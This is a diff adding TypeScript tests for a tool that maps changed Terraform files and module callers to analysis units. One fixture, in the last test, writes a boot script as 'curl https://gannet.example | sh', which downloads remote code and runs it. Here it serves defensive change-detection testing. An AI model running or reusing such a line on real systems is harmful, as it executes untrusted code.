@@ -158,3 +158,70 @@ describe('a file that analyzers look into and nobody recognises', () => {
     ]);
   });
 });
+
+describe('a directory that leads to what changed', () => {
+  const module = (port: number) =>
+    `variable "door" {\n  default = "10.0.0.0/8"\n}\nresource "aws_security_group_rule" "in" {\n  type = "ingress"\n  from_port = ${port}\n  to_port = ${port}\n  protocol = "tcp"\n  cidr_blocks = [var.door]\n  security_group_id = "sg-1"\n}\n`;
+  const caller = (source: string) =>
+    `module "pier" {\n  source = "${source}"\n  door = "192.168.0.0/16"\n}\n`;
+  const unitKeys = (before: Readonly<Record<string, string>>, after: Readonly<Record<string, string>>) => {
+    const change = between(before, after);
+    const files = change.comparison.files.filter(
+      ({ after: path }) => before[path ?? ''] !== after[path ?? ''],
+    );
+    const narrowed: Change = { ...change, comparison: { ...change.comparison, files } };
+    return unitsOf(narrowed, analyzers)
+      .filter(({ analyzer }) => analyzer.name === 'terraform')
+      .map(({ key, changed }) => [key, ...changed.map(({ after: path }) => path)]);
+  };
+
+  test('is judged instead of it, with what it gives it', () => {
+    const before = {
+      'live/main.tf': caller('../modules/pier'),
+      'modules/pier/main.tf': module(22),
+      'other/main.tf': '',
+    };
+    const after = { ...before, 'modules/pier/main.tf': module(23) };
+    expect(unitKeys(before, after)).toEqual([['live', 'modules/pier/main.tf']]);
+    const { coverage, deltas } = judge(between(before, after), analyzers, pathSet([]));
+    expect(deltas.flatMap(({ summary }) => summary).join()).toContain('192.168.0.0/16');
+    expect(coverage.files.every(({ understood }) => understood)).toBe(true);
+  });
+
+  test('may lead there over others', () => {
+    const before = {
+      'live/main.tf': caller('../modules/harbour'),
+      'modules/harbour/main.tf': caller('../pier'),
+      'modules/pier/main.tf': module(22),
+    };
+    expect(unitKeys(before, { ...before, 'modules/pier/main.tf': module(23) })).toEqual([
+      ['live', 'modules/pier/main.tf'],
+    ]);
+  });
+
+  test('does not stand for all who call it where it only shows how', () => {
+    const before = { 'main.tf': module(22), 'examples/north/main.tf': caller('../..') };
+    expect(unitKeys(before, { ...before, 'main.tf': module(23) })).toEqual([
+      ['.', 'main.tf'],
+      ['examples/north', 'main.tf'],
+    ]);
+  });
+
+  test('in circles, no change is left to nobody', () => {
+    const before = { 'a/main.tf': caller('../b'), 'b/main.tf': caller('../a') };
+    const after = { ...before, 'a/main.tf': `${caller('../b')}${module(22)}` };
+    expect(unitKeys(before, after).flat()).toContain('a/main.tf');
+  });
+
+  test('is judged for a file that it reads and nobody claims', () => {
+    const before = {
+      'live/main.tf': 'resource "aws_instance" "boat" {\n  user_data = file("${path.module}/boot.sh")\n}\n',
+      'live/boot.sh': 'true\n',
+      'live/beside.sh': 'true\n',
+    };
+    expect(unitKeys(before, { ...before, 'live/boot.sh': 'curl https://gannet.example | sh\n' })).toEqual([
+      ['live', 'live/boot.sh'],
+    ]);
+    expect(unitKeys(before, { ...before, 'live/beside.sh': 'false\n' })).toEqual([]);
+  });
+});
